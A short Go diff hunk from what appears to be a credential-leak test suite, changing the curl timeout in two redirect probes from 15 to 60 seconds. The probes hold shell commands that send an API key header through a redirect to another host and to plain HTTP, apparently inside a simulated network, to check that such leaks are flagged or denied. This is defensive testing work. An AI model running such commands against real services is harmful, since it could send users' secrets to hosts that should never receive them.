@@ -68,10 +68,10 @@ func (c credentialProbes) steering() {
 		proof: allowedFlow, outer: notInTheClear})
 	c.secretive(Probe{ID: "steer/redirect", Title: "a redirect of the credential's host to another one, with a client that sends the header again", Bypass: Steering, allowed: reaches,
 		binds: []secret{apiKey}, proof: flagged("placeholder-to-other-host"), outer: notFollowed,
-		task: program("sh", "-c", "curl -sS -m 15 -L -H \"X-Api-Key: $API_KEY\" 'https://"+simnet.API+"/v1/redirect?to=https://"+other+"/"+c.token()+"'")})
+		task: program("sh", "-c", "curl -sS -m 60 -L -H \"X-Api-Key: $API_KEY\" 'https://"+simnet.API+"/v1/redirect?to=https://"+other+"/"+c.token()+"'")})
 	c.secretive(Probe{ID: "steer/redirect-clear", step: "steer", Title: "a redirect of the credential's host to itself in the clear", Bypass: Steering, allowed: reaches,
 		binds: []secret{apiKey}, outer: notFollowed, proof: denied,
-		task: program("sh", "-c", "curl -sS -m 15 -L -H \"X-Api-Key: $API_KEY\" 'https://"+simnet.API+"/v1/redirect?to=http://"+simnet.API+"/v1/"+c.token()+"'")})
+		task: program("sh", "-c", "curl -sS -m 60 -L -H \"X-Api-Key: $API_KEY\" 'https://"+simnet.API+"/v1/redirect?to=http://"+simnet.API+"/v1/"+c.token()+"'")})
 }
 
 // notInTheClear reports a value that its own host received without TLS.
